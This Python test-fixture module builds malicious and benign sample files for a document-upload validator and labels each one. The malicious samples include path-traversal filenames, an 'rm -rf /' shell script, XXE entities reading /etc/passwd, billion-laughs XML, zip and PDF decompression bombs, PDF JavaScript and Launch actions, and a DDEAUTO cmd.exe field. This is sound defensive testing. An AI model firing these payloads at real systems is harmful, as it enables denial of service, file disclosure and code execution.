# SPDX-License-Identifier: EUPL-1.2
"""Evil and sound files: under which name they come, and what must be said of them."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

import pikepdf

from comity.documents.files import Caution, Problem

from .makers import (
    AGE,
    DECLARATION,
    MAIL,
    MP3,
    MP4,
    OLE,
    WAV,
    W,
    chunk,
    docx,
    mail,
    odf,
    package,
    pdf,
    picture,
    pptx,
    relations,
    revised,
    stream,
    types,
    wide_png,
    xlsx,
)

P, C = Problem, Caution


@dataclass(frozen=True)
class Sample:
    """One file: what it is, the name it comes under, how it is made, and what is said of it."""

    what: str
    name: str
    make: Callable[[], bytes]
    problem: Problem | None = None
    cautions: frozenset[Caution] = frozenset()


def evil(what: str, name: str, make: Callable[[], bytes], problem: Problem) -> Sample:
    return Sample(what, name, make, problem)


def sound(what: str, name: str, make: Callable[[], bytes], *cautions: Caution) -> Sample:
    return Sample(what, name, make, None, frozenset(cautions))


def script_action() -> bytes:
    return b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def locked_pdf(*, user: str) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as document:
        document.save(out, encryption=pikepdf.Encryption(owner="owner", user=user), deterministic_id=False)
    return out.getvalue()


def flate(data: bytes, entries: bytes = b"/Filter /FlateDecode") -> bytes:
    return stream(zlib.compress(data, 9), entries)


@cache
def double_bomb() -> bytes:
    inner = zlib.compress(bytes(420 << 20), 9)
    return stream(zlib.compress(inner, 9), b"/Filter [/FlateDecode /FlateDecode]")


@cache
def object_stream_bomb() -> bytes:
    body = zlib.compress(b"5 0 " + b" " * (420 << 20) + b"<< >>", 9)
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R /X 5 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
        stream(body, b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"),
    ]
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, one in enumerate(bodies, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + one + b"\nendobj\n"
    table = b"".join(struct.pack(">BIH", 1, place, 0) for place in places)
    here = len(out)
    rows = struct.pack(">BIH", 0, 0, 65535) + table + struct.pack(">BIH", 2, 4, 0) + struct.pack(">BIH", 1, here, 0)
    out += b"6 0 obj\n" + stream(rows, b"/Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R") + b"\nendobj\n"
    return bytes(out) + b"startxref\n%d\n%%%%EOF\n" % here


def broken_zip(change: Callable[[bytearray], None], **parts: bytes) -> bytes:
    data = bytearray(docx({name.replace("__", "/"): part for name, part in parts.items()}))
    change(data)
    return bytes(data)


def central(data: bytearray, number: int) -> int:
    """Where the entry of this number stands in the table of contents."""
    at = data.rindex(b"PK\x05\x06")
    at = int.from_bytes(data[at + 16 : at + 20], "little")
    for _ in range(number):
        lengths = struct.unpack("<3H", data[at + 28 : at + 34])
        at += 46 + sum(lengths)
    return at


def say_small(data: bytearray) -> None:
    """Both headers of the third entry say ten bytes; more come out."""
    at = central(data, 2)
    data[at + 24 : at + 28] = (10).to_bytes(4, "little")
    local = int.from_bytes(data[at + 42 : at + 46], "little")
    data[local + 22 : local + 26] = (10).to_bytes(4, "little")


def say_two_sizes(data: bytearray) -> None:
    at = central(data, 2)
    data[at + 24 : at + 28] = (10).to_bytes(4, "little")


def say_locked(data: bytearray) -> None:
    at = central(data, 2)
    data[at + 8] |= 1


def overlap(data: bytearray) -> None:
    """The second entry is said to lie where the first one lies."""
    at = central(data, 1)
    data[at + 42 : at + 46] = bytes(4)


def other_method(data: bytearray) -> None:
    at = central(data, 2)
    local = int.from_bytes(data[at + 42 : at + 46], "little")
    data[at + 10] = data[local + 8] = 12


def spoil(data: bytearray) -> None:
    at = int.from_bytes(data[central(data, 2) + 42 : central(data, 2) + 46], "little")
    data[at + 60] ^= 0xFF


def twice() -> bytes:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as file:
        file.writestr(zipfile.ZipInfo("WORD/document.xml"), b"<x/>")
    return out.getvalue()


def many() -> bytes:
    return docx({f"word/p{number}.xml": b"" for number in range(10_050)})


def led_out(name: str) -> bytes:
    return docx({name: b"x"})


@cache
def bomb() -> bytes:
    return docx({"word/media/x.bin": bytes(120 << 20)})


@cache
def wide_bomb() -> bytes:
    """No entry is extreme by itself; together they are beyond any document."""
    block = zlib.compress(b"", 0) and bytes(range(256)) * 32
    part = b"".join(block + struct.pack(">I", number) for number in range(5_000))
    return docx({f"word/media/{number}.dat": part for number in range(12)})


def deep_xml() -> bytes:
    return docx(body="<w:p>" * 400 + "</w:p>" * 400)


def laughs() -> str:
    lines = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'{DECLARATION}<!DOCTYPE w [<!ENTITY l0 "ha">{lines}]><w:document {W}><w:body>&l9;</w:body></w:document>'


def xxe() -> str:
    return f'{DECLARATION}<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document {W}>&x;</w:document>'


def utf16_xxe() -> bytes:
    return xxe().replace("UTF-8", "UTF-16").encode("utf-16")


def macro_types() -> str:
    return types(("/word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"))


def field(code: str) -> str:
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
        + "</w:instrText></w:r><w:r><w:instrText>".join([code[:3], code[3:]])
        + '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def nested(levels: int) -> bytes:
    content = docx()
    for _ in range(levels):
        content = docx({"word/embeddings/inner.docx": content})
    return content


def odf_with(body: str) -> Callable[[], bytes]:
    return lambda: odf("text", body=body)


def locked_odf() -> bytes:
    manifest = (
        f'{DECLARATION}<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        '<m:file-entry m:full-path="content.xml"><m:encryption-data/></m:file-entry></m:manifest>'
    )
    return odf("text", {"META-INF/manifest.xml": manifest})


def nested_mail(levels: int) -> bytes:
    out = MAIL
    for level in range(levels):
        out += b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (level, level)
    return out + b"\r\nx\r\n"


def image_object(width: int, height: int, data: bytes = b"x") -> bytes:
    size = b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 8" % (
        width,
        height,
    )
    return flate(data, size + b" /Filter /FlateDecode")


def flood_of_pages() -> bytes:
    """A TIFF of pages that are one strip of eight bytes each, said to be 10,000 pixels square."""
    out, at = bytearray(b"II*\0\x10\0\0\0" + bytes(8)), 16
    for number in range(60):
        entries = [
            (256, 4, 10_000),
            (257, 4, 10_000),
            (258, 3, 8),
            (259, 3, 1),
            (262, 3, 1),
            (273, 4, 8),
            (278, 4, 10_000),
            (279, 4, 8),
        ]
        out += struct.pack("<H", len(entries))
        for tag, kind, value in entries:
            out += struct.pack("<HHII", tag, kind, 1, value)
        at = len(out) + 4
        out += struct.pack("<I", at if number < 59 else 0)
    return bytes(out)


EVIL = [
    # Names
    evil("a path in the name", "../../etc/passwd.txt", lambda: b"x", P.NAME_PATH),
    evil("a path of Windows", "..\\x.txt", lambda: b"x", P.NAME_PATH),
    evil("a drive", "C:x.txt", lambda: b"x", P.NAME_PATH),
    evil("a hidden name", ".htaccess.txt", lambda: b"x", P.NAME_PATH),
    evil("an ending turned round", "note\u202efdp.txt", lambda: b"x", P.NAME_CHARACTERS),
    evil("an isolate", "note\u2067x.pdf", pdf, P.NAME_CHARACTERS),
    evil("a NUL in the name", "x.txt\0.pdf", pdf, P.NAME_CHARACTERS),
    evil("a line in the name", "x\r\nSet-Cookie.txt", lambda: b"x", P.NAME_CHARACTERS),
    evil("nothing of width in the name", "x\u200b.txt", lambda: b"x", P.NAME_CHARACTERS),
    evil("half a character", "x\udc80.txt", lambda: b"x", P.NAME_CHARACTERS),
    evil("a name of 300 characters", "x" * 296 + ".txt", lambda: b"x", P.NAME_LENGTH),
    evil("a device of Windows", "con.txt", lambda: b"x", P.NAME_RESERVED),
    evil("a blank at the end", "x.txt ", lambda: b"x", P.NAME_RESERVED),
    evil("no name", "  ", lambda: b"x", P.NAME_EMPTY),
    # Kinds
    evil("nothing", "x.pdf", lambda: b"", P.EMPTY),
    evil("a program", "x.exe", lambda: b"MZ\x90\0" + bytes(100), P.TYPE_NOT_ALLOWED),
    evil("a program called PDF", "x.pdf", lambda: b"MZ\x90\0" + bytes(100), P.WRONG_TYPE),
    evil("a program called text", "x.txt", lambda: b"\x7fELF\2\1\1" + bytes(100), P.WRONG_TYPE),
    evil("two endings", "note.pdf.exe", pdf, P.TYPE_NOT_ALLOWED),
    evil("no ending", "note", pdf, P.TYPE_NOT_ALLOWED),
    evil("PDF called PNG", "x.png", pdf, P.WRONG_TYPE),
    evil("PNG called JPEG", "x.jpg", picture, P.WRONG_TYPE),
    evil("a page called text", "x.txt", lambda: b" <!DOCTYPE html><script>alert(1)</script>", P.WRONG_TYPE),
    evil("a page", "x.html", lambda: b"<html>", P.TYPE_NOT_ALLOWED),
    evil("a drawing with script", "x.svg", lambda: b"<svg onload='alert(1)'>", P.TYPE_NOT_ALLOWED),
    evil("a shell script called text", "x.txt", lambda: b"#!/bin/sh\nrm -rf /\n", P.WRONG_TYPE),
    evil("RTF called text", "x.txt", lambda: b"{\\rtf1 {\\object}}", P.WRONG_TYPE),
    evil("old Word", "x.doc", lambda: OLE, P.OLD_FORMAT),
    evil("old Word called DOCX", "x.docx", lambda: OLE, P.OLD_FORMAT),
    evil("Word locked", "x.docx", lambda: OLE + "EncryptedPackage".encode("utf-16-le"), P.ENCRYPTED),
    evil("an archive", "x.zip", lambda: package({"a": b"x"}), P.ARCHIVE),
    evil("an archive called DOCX", "x.docx", lambda: package({"a": b"x"}), P.WRONG_TYPE),
    evil("XLSX called DOCX", "x.docx", xlsx, P.WRONG_TYPE),
    evil("UTF-16 called text", "x.txt", lambda: "Nöte".encode("utf-16"), P.NOT_TEXT),
    evil("Latin-1 called text", "x.txt", lambda: "Übergabe".encode("latin-1"), P.NOT_TEXT),
    evil("signals in text", "x.txt", lambda: b"a\x1b]0;x\x07b", P.NOT_TEXT),
    # Two kinds at once
    evil("PDF and ZIP", "x.pdf", lambda: pdf() + package({"a": b"x"}), P.POLYGLOT),
    evil("PNG and ZIP", "x.png", lambda: picture() + package({"a": b"x"}), P.POLYGLOT),
    evil("PNG and page", "x.png", lambda: picture() + b"<script>alert(1)</script>", P.POLYGLOT),
    evil(
        "JPEG with a page in its comment", "x.jpg", lambda: picture("JPEG", comment=b"<script>1</script>"), P.POLYGLOT
    ),
    evil("GIF and script", "x.csv", lambda: b"GIF89a/*,0*/=1;alert(1)//", P.WRONG_TYPE),
    evil("GIF", "x.gif", lambda: picture("GIF"), P.TYPE_NOT_ALLOWED),
    evil("DOCX with PDF before it", "x.docx", lambda: b"PK\x03\x04%PDF-1.4" + docx(), P.POLYGLOT),
    evil("DOCX with something after it", "x.docx", lambda: docx() + b"MZ" * 40, P.POLYGLOT),
    evil("MP4 and PDF", "x.mp4", lambda: MP4 + pdf(), P.POLYGLOT),
    # Packages
    evil("a bomb by ratio", "x.docx", bomb, P.PACKAGE_BOMB),
    evil("a bomb by total", "x.docx", wide_bomb, P.PACKAGE_BOMB),
    evil("a bomb by count", "x.docx", many, P.PACKAGE_BOMB),
    evil("a size too small", "x.docx", lambda: broken_zip(say_small), P.PACKAGE_LIES),
    evil("two sizes", "x.docx", lambda: broken_zip(say_two_sizes), P.PACKAGE_LIES),
    evil("entries on one another", "x.docx", lambda: broken_zip(overlap), P.PACKAGE_LIES),
    evil("a rare method", "x.docx", lambda: broken_zip(other_method), P.PACKAGE_LIES),
    evil("one entry twice", "x.docx", twice, P.PACKAGE_LIES),
    evil("an entry locked", "x.docx", lambda: broken_zip(say_locked), P.ENCRYPTED),
    evil("spoilt bytes", "x.docx", lambda: broken_zip(spoil), P.BROKEN),
    evil("cut off", "x.docx", lambda: docx()[:-30], P.BROKEN),
    evil("an entry that leads out", "x.docx", lambda: led_out("../../evil.xml"), P.PACKAGE_PATH),
    evil("an absolute entry", "x.docx", lambda: led_out("/etc/cron.d/x"), P.PACKAGE_PATH),
    evil("an entry of Windows", "x.docx", lambda: led_out("word\\..\\x"), P.PACKAGE_PATH),
    evil("packages in packages", "x.docx", lambda: nested(2), P.PACKAGE_NESTED),
    evil("an archive inside", "x.docx", lambda: docx({"word/x.bin": package({"a": b"x"})}), P.PACKAGE_NESTED),
    # Documents
    evil("a thousand million laughs", "x.docx", lambda: docx({"word/document.xml": laughs()}), P.XML_ENTITIES),
    evil("an external entity", "x.docx", lambda: docx({"word/document.xml": xxe()}), P.XML_ENTITIES),
    evil("an external entity in UTF-16", "x.docx", lambda: docx({"word/document.xml": utf16_xxe()}), P.XML_ENTITIES),
    evil("an entity in a minor part", "x.xlsx", lambda: xlsx({"docProps/app.xml": xxe()}), P.XML_ENTITIES),
    evil("deep markup", "x.docx", deep_xml, P.XML_DEPTH),
    evil("broken markup", "x.docx", lambda: docx(body="<w:p>"), P.BROKEN),
    evil("macros by name", "x.docm", docx, P.MACROS),
    evil("macros by content", "x.docx", lambda: docx({"word/vbaProject.bin": OLE}), P.MACROS),
    evil("macros by type", "x.docx", lambda: docx({"[Content_Types].xml": macro_types()}), P.MACROS),
    evil("macros in a slide show", "x.pptx", lambda: pptx({"ppt/vbaProject.bin": OLE}), P.MACROS),
    evil("ActiveX", "x.docx", lambda: docx({"word/activeX/activeX1.xml": "<a/>"}), P.ACTIVE_CONTENT),
    evil("DDE over two runs", "x.docx", lambda: docx(body=field("DDEAUTO c:\\\\cmd.exe")), P.ACTIVE_CONTENT),
    evil(
        "a picture fetched", "x.docx", lambda: docx(body=field(' INCLUDEPICTURE "http://a.example"')), P.ACTIVE_CONTENT
    ),
    evil("WEBSERVICE", "x.xlsx", lambda: xlsx(cells="<c r='A1'><f>WEBSERVICE(\"http://a\")</f></c>"), P.ACTIVE_CONTENT),
    evil(
        "a template from elsewhere",
        "x.docx",
        lambda: docx(
            {"word/_rels/settings.xml.rels": relations(("attachedTemplate", "http://a.example/t.dotm", "External"))}
        ),
        P.EXTERNAL_LINK,
    ),
    evil(
        "a workbook elsewhere",
        "x.xlsx",
        lambda: xlsx(
            {"xl/_rels/workbook.xml.rels": relations(("externalLink", "externalLinks/externalLink1.xml", ""))}
        ),
        P.EXTERNAL_LINK,
    ),
    evil(
        "a link that is a script",
        "x.docx",
        lambda: docx({"word/_rels/document.xml.rels": relations(("hyperlink", "javascript:alert(1)", "External"))}),
        P.SCRIPT,
    ),
    evil("a file inside", "x.docx", lambda: docx({"word/embeddings/oleObject1.bin": OLE}), P.EMBEDDED_FILE),
    evil("a program inside", "x.pptx", lambda: pptx({"ppt/media/x.bin": b"MZ\x90\0" + bytes(64)}), P.EMBEDDED_FILE),
    evil("a flood inside", "x.docx", lambda: docx({"word/media/image1.png": wide_png(60_000, 60_000)}), P.PIXEL_FLOOD),
    evil("macros in ODT", "x.odt", lambda: odf("text", {"Basic/Standard/x.xml": "<a/>"}), P.MACROS),
    evil("a script bound in ODT", "x.odt", odf_with("<script:event-listener/>"), P.MACROS),
    evil(
        "a picture from elsewhere in ODT",
        "x.odt",
        odf_with('<draw:image xlink:href="http://a.example/x.png"/>'),
        P.EXTERNAL_LINK,
    ),
    evil("ODT locked", "x.odt", locked_odf, P.ENCRYPTED),
    # PDF
    evil("a script on opening", "x.pdf", lambda: pdf(catalog=b"/OpenAction " + script_action()), P.SCRIPT),
    evil(
        "a script in the names",
        "x.pdf",
        lambda: pdf(catalog=b"/Names << /JavaScript << /Names [(a) " + script_action() + b"] >> >>"),
        P.SCRIPT,
    ),
    evil(
        "a script under another spelling",
        "x.pdf",
        lambda: pdf(catalog=b"/OpenAction << /S /Java#53cript /J#53 (1) >>"),
        P.SCRIPT,
    ),
    evil("a script nobody refers to", "x.pdf", lambda: pdf(script_action()), P.SCRIPT),
    evil("a script on a page", "x.pdf", lambda: pdf(page=b"/AA << /O " + script_action() + b" >>"), P.SCRIPT),
    evil("a program started", "x.pdf", lambda: pdf(b"<< /S /Launch /F (cmd.exe) >>"), P.ACTIVE_CONTENT),
    evil(
        "an address on opening",
        "x.pdf",
        lambda: pdf(catalog=b"/OpenAction << /S /URI /URI (http://a.example) >>"),
        P.ACTIVE_CONTENT,
    ),
    evil(
        "a form that sends itself",
        "x.pdf",
        lambda: pdf(b"<< /S /SubmitForm /F (http://a.example) >>"),
        P.ACTIVE_CONTENT,
    ),
    evil("XFA", "x.pdf", lambda: pdf(catalog=b"/AcroForm << /Fields [] /XFA 5 0 R >>"), P.ACTIVE_CONTENT),
    evil("a film", "x.pdf", lambda: pdf(b"<< /Type /Annot /Subtype /RichMedia >>"), P.ACTIVE_CONTENT),
    evil(
        "a file attached", "x.pdf", lambda: pdf(b"<< /Type /Filespec /F (x.exe) /EF << /F 4 0 R >> >>"), P.EMBEDDED_FILE
    ),
    evil("a stream from elsewhere", "x.pdf", lambda: pdf(stream(b"", b"/F (//a.example/x)")), P.EXTERNAL_LINK),
    evil("PDF locked", "x.pdf", lambda: locked_pdf(user="user"), P.ENCRYPTED),
    evil("PDF broken", "x.pdf", lambda: b"%PDF-1.7\n" + b"nothing " * 100, P.BROKEN),
    evil("PDF without pages", "x.pdf", lambda: pdf(pages=0), P.BROKEN),
    evil("a flood in PDF", "x.pdf", lambda: pdf(image_object(50_000, 50_000)), P.PIXEL_FLOOD),
    evil("a bomb in PDF", "x.pdf", lambda: pdf(double_bomb()), P.PACKAGE_BOMB),
    evil(
        "a chain of filters",
        "x.pdf",
        lambda: pdf(stream(b"", b"/Filter [" + b"/FlateDecode " * 9 + b"]")),
        P.PACKAGE_BOMB,
    ),
    evil("a bomb of objects", "x.pdf", object_stream_bomb, P.PACKAGE_BOMB),
    # Pictures
    evil("a flood of pixels", "x.png", lambda: wide_png(60_000, 60_000), P.PIXEL_FLOOD),
    evil("a flood of pages", "x.tif", flood_of_pages, P.PIXEL_FLOOD),
    evil("PNG cut off", "x.png", lambda: picture()[:-12], P.BROKEN),
    evil("PNG only by its beginning", "x.png", lambda: b"\x89PNG\r\n\x1a\n" + bytes(200), P.BROKEN),
    evil("JPEG cut off", "x.jpg", lambda: picture("JPEG")[:-20], P.BROKEN),
    # Messages and sealed files
    evil("no message", "x.eml", lambda: b"Dear all,\nnothing\n", P.BROKEN),
    evil("a program by mail", "x.eml", lambda: mail(("x.exe", b"MZ")), P.ATTACHMENT),
    evil("a script by mail", "x.eml", lambda: mail(("x.pdf", pdf(script_action()))), P.ATTACHMENT),
    evil("parts in parts", "x.eml", lambda: nested_mail(3000), P.TOO_DEMANDING),
    evil("age without recipient", "x.age", lambda: b"age-encryption.org/v1\n" + bytes(50), P.BROKEN),
]


def with_text_chunk() -> bytes:
    whole = picture()
    return whole[:33] + chunk(b"tEXt", b"Comment\0made by a test") + whole[33:]


SOUND = [
    sound("PDF", "Note verbale.pdf", pdf),
    sound("PDF of many pages", "x.pdf", lambda: pdf(pages=40)),
    sound("PDF written anew behind its end", "x.pdf", lambda: revised(pdf(), 4, stream(b"BT ET"), 6)),
    sound("PDF that restricts printing", "x.pdf", lambda: locked_pdf(user=""), C.RESTRICTED),
    sound("PDF with a link", "x.pdf", lambda: pdf(b"<< /S /URI /URI (https://a.example) >>")),
    sound("PDF with a picture", "x.pdf", lambda: pdf(image_object(600, 800))),
    sound("PDF signed", "x.pdf", lambda: pdf(b"<< /Type /Sig /ByteRange [0 1 2 3] /Contents <00> >>"), C.SIGNED),
    sound("PDF with a wrong table", "x.pdf", lambda: pdf().replace(b"startxref\n", b"startxref\n9"), C.REPAIRED),
    sound("PDF with data behind", "x.pdf", lambda: pdf() + b"A" * 5000, C.TRAILING_DATA, C.REPAIRED),
    sound("PNG", "x.PNG", picture),
    sound("PNG with a comment", "x.png", with_text_chunk),
    sound("PNG with a little behind", "x.png", lambda: picture() + b"\0" * 9, C.TRAILING_DATA),
    sound("JPEG", "x.jpeg", lambda: picture("JPEG")),
    sound("progressive JPEG", "x.jpg", lambda: picture("JPEG", (400, 300), progressive=True)),
    sound("TIFF", "x.tif", lambda: picture("TIFF")),
    sound("text", "Доклад.txt", "Zusammenarbeit – تعاون – 協力\r\n".encode),
    sound("text with a mark", "x.txt", "\ufeffx".encode),
    sound("a long text", "x.txt", lambda: "Mémoire, ".encode() * 200_000),
    sound("text that turns", "x.txt", "a\u202eb".encode, C.DIRECTION),
    sound("a table", "x.csv", lambda: b"a,b\n-1.5,+33 1\n"),
    sound("a table with a formula", "x.csv", lambda: b'a,b\n1,"=HYPERLINK(1)"\n', C.FORMULAS),
    sound("DOCX", "x.docx", docx),
    sound("DOCX with a picture", "x.docx", lambda: docx({"word/media/image1.png": picture()})),
    sound(
        "DOCX with old pictures",
        "x.docx",
        lambda: docx({f"m/1.{form}": picture(form) for form in ("gif", "bmp", "webp")}),
    ),
    sound("PDF whose objects are numbers", "x.pdf", lambda: pdf(b"17", b"null", b"true", b"[1 (x) null]")),
    sound("DOCX with a workbook", "x.docx", lambda: docx({"word/embeddings/list.xlsx": xlsx()}), C.EMBEDDED_DOCUMENT),
    sound(
        "DOCX with a link",
        "x.docx",
        lambda: docx({"word/_rels/document.xml.rels": relations(("hyperlink", "https://a.example", "External"))}),
    ),
    sound("DOCX with a field", "x.docx", lambda: docx(body=field(' HYPERLINK "https://a.example/IMPORT"'))),
    sound("XLSX", "x.xlsx", xlsx),
    sound("PPTX", "x.pptx", pptx),
    sound("ODT", "x.odt", lambda: odf("text")),
    sound("ODS", "x.ods", lambda: odf("spreadsheet")),
    sound("a message", "x.eml", lambda: MAIL + b"\r\nDear colleagues\r\n"),
    sound("a message with a document", "x.eml", lambda: mail(("note.pdf", pdf())), C.ATTACHMENTS),
    sound("film", "x.mp4", lambda: MP4, C.NOT_LOOKED_INTO),
    sound("sound", "x.mp3", lambda: MP3, C.NOT_LOOKED_INTO),
    sound("a wave", "x.wav", lambda: WAV, C.NOT_LOOKED_INTO),
    sound("sealed", "x.age", lambda: AGE, C.NOT_LOOKED_INTO),
    sound("a name in Arabic", "مذكرة.pdf", pdf),
]
SAMPLES = [*EVIL, *SOUND]
